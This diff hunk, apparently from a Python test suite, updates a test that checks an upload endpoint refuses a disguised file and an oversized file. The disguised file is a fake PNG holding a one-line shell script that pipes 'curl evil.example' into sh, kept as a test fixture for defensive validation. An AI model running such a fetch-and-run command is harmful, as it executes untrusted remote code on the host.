@@ -119,7 +119,7 @@ def test_bad_evidence_is_refused_and_nothing_is_stored(me, settings, tmp_path):
     settings.MEDIA_ROOT = tmp_path
     script = SimpleUploadedFile("cat.png", b"#!/bin/sh\ncurl evil.example | sh\n", content_type="image/png")
     r = submit(me, files=[script])
-    assert r.status_code == 422 and r.json()["error"]["field"] == "evidence"
+    assert r.status_code == 422 and r.json()["error"]["field"] == "files"  # the parameter the client sent
     settings.REFUNDDESK_EVIDENCE_MAX_BYTES = 1000
     big = SimpleUploadedFile("big.png", PNG + b"\0" * 2000, content_type="image/png")
     r = submit(me, files=[big])
